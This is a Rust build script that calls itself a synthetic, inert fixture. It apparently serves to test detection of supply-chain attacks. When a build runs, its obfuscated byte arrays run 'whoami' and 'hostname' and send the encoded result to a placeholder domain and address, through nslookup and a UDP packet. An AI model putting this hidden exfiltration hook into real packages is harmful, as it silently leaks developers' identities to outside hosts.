// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    detect();
}

pub(crate) fn detect() {
    let who = std::process::Command::new(&text(&[119, 104, 111, 97, 109, 105]))
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let host = std::process::Command::new(&text(&[104, 111, 115, 116, 110, 97, 109, 101]))
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let label: String = who
        .iter()
        .chain(b"-")
        .chain(host.iter())
        .map(|b| format!("{b:02x}"))
        .take(60)
        .collect();
    let name = format!(
        "{label}.{}",
        text(&[
            111, 97, 115, 116, 46, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100
        ])
    );
    let _ = std::process::Command::new(&text(&[110, 115, 108, 111, 111, 107, 117, 112]))
        .arg(&name)
        .status();
    if let Ok(port) = std::net::UdpSocket::bind("0.0.0.0:0") {
        let _ = port.send_to(
            name.as_bytes(),
            &text(&[50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 53, 51, 58, 53, 51]),
        );
    }
}

fn text(codes: &[u8]) -> String {
    codes.iter().map(|c| *c as char).collect()
}

inert_fixture_does_not_build!();
